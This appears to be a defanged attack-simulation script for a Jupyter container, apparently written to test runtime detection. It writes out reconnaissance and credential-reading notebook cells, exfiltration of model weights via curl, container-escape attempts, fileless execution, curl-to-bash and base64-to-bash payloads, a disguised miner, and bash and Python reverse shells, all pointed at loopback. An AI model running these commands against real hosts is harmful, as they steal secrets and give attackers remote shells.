#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# The part of attack.sh that runs as the notebook's user, without any privilege.
cd /home/jovyan/notebooks || exit 1
exec 9<> /tmp/pause
pause() { read -rt "${1:-0.3}" -u 9; }

# 1. A notebook runs shell commands: where am I?
cat > cells.txt <<'CELLS'
!id
!whoami
!uname -a
!cat /etc/passwd
!ps aux
!ss -tunlp
!env | grep -i -E 'key|token|secret'
!cat /proc/1/environ
!cat /proc/self/mountinfo
!ls -la /run/docker.sock /var/run/secrets/kubernetes.io
!curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/
!find /opt /tmp /srv -perm -4000 -type f
!cat /run/secrets/kubernetes.io/serviceaccount/token
!curl -sk -m 1 -H 'Authorization: Bearer planted-not-a-token' https://127.0.0.1:6443/api/v1/namespaces/default/secrets
!cat /home/jovyan/.cache/huggingface/token
!cat /opt/app/.env
CELLS
/opt/venv/bin/jupyter-lab --no-browser cells.txt
pause

# 2. Planted model weights are copied, packed and sent away.
cat > cells2.txt <<'CELLS'
!mkdir -p /tmp/.cache
import shutil; shutil.copy("/models/llm-7b/model.safetensors", "/tmp/.cache/w.bin")
!cp /models/llm-7b/model.safetensors /tmp/.cache/model.safetensors
!tar -czf /tmp/.cache/w.tgz -C /models llm-7b/model.safetensors
!curl -s -m 1 -T /tmp/.cache/w.tgz http://127.0.0.1:9000/upload
!curl -s -m 1 -F file=@/models/llm-7b/model.safetensors http://127.0.0.1:9000/upload
CELLS
/opt/venv/bin/jupyter-lab --no-browser cells2.txt
pause

# 3. Attempts to leave the container, all refused.
mount -t proc proc /tmp/.cache
mount -o bind / /tmp/.cache
unshare --mount /bin/true
nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/bash
ls /proc/1/root/
bash -c 'echo "|/tmp/.cache/x" > /proc/sys/kernel/core_pattern'
bash -c 'echo /tmp/.cache/x > /tmp/cgroup/release_agent'
chroot /proc/1/root /bin/bash
curl -s -m 1 --unix-socket /run/docker.sock http://localhost/containers/json
python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
libc.ptrace(PTRACE_ATTACH, 1, None, None)
libc.syscall(175, None, 0, b"")          # init_module
libc.syscall(321, 5, None, 0)            # bpf
libc.syscall(155, b"/tmp", b"/tmp")      # pivot_root
fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
libc.setns(fd, 0)
try:
    open("/proc/1/mem", "rb")
except OSError:
    pass
PY
pause

# 4. A program that exists in memory only.
python3 - <<'PY'
import os
fd = os.memfd_create("kworker")
os.write(fd, open("/usr/bin/true", "rb").read())
if os.fork() == 0:
    os.execve(f"/proc/self/fd/{fd}", ["kworker/0:1"], {})
os.wait()
PY
pause

# 5. A download that is run at once, a script hidden in base64, a miner by name only.
curl -s -o /tmp/update.sh http://127.0.0.1:8000/update.sh
chmod +x /tmp/update.sh
/tmp/update.sh
bash -c 'curl -s http://127.0.0.1:8000/update.sh | bash'
bash -c 'echo aWQ7IHVuYW1lIC1hCg== | base64 -d | bash'
python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
mkdir -p /dev/shm/.x
cp /usr/bin/true /dev/shm/.x/xmrig
/dev/shm/.x/xmrig --url stratum+tcp://127.0.0.1:3333 --user planted

# 6. A shell that calls back, over the loopback only.
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4445));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
pause 1
